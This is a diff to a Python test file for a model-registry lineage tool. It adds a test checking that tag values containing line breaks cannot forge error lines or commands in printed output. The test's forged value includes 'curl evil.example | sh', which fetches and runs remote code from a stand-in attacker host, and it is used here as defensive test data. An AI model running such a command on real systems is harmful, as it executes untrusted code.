@@ -12,7 +12,7 @@ import pytest
 import yaml
 
 from tasks.commands.fetch import fetch
-from tasks.commands.lineage import describe, lineage
+from tasks.commands.lineage import describe, lineage, print_lineage
 from tasks.commands.rebuild import MARK, compare, verify
 from tasks.commands.reproduction import has_commit, inputs_outside_git, repository_and_prefix, reproduction
 from tasks.core.console import SafeConsole
@@ -61,6 +61,17 @@ def test_a_tag_that_is_no_commit_never_reaches_git(option: str, registry: Regist
     assert "its tag git_commit was edited in MLflow" in "".join(row["altered"])
     assert option not in "".join(row["reproduce"]["commands"])
     assert "cannot be made again" in refused(tmp_path / "again")
+
+
+def test_a_tag_with_line_ends_forges_no_line_and_no_command(registry: Registry):
+    promote("a")
+    forged = "x\nerror: forged; run:\ncurl evil.example | sh"
+    for tag in ("reason", "snapshot", "environment_drift", "seed", "data_hash.a"):
+        registry.client.set_model_version_tag(MODEL, "1", tag, forged)
+    out = io.StringIO()
+    print_lineage(lineage(CHAMPION), SafeConsole(file=out, width=200))
+    assert "forged" in out.getvalue()
+    assert not [line for line in out.getvalue().splitlines() if line.strip().startswith(("error:", "curl "))]
 
 
 def test_nothing_is_run_of_a_version_whose_params_were_altered_with_the_tag_that_verifies_them(
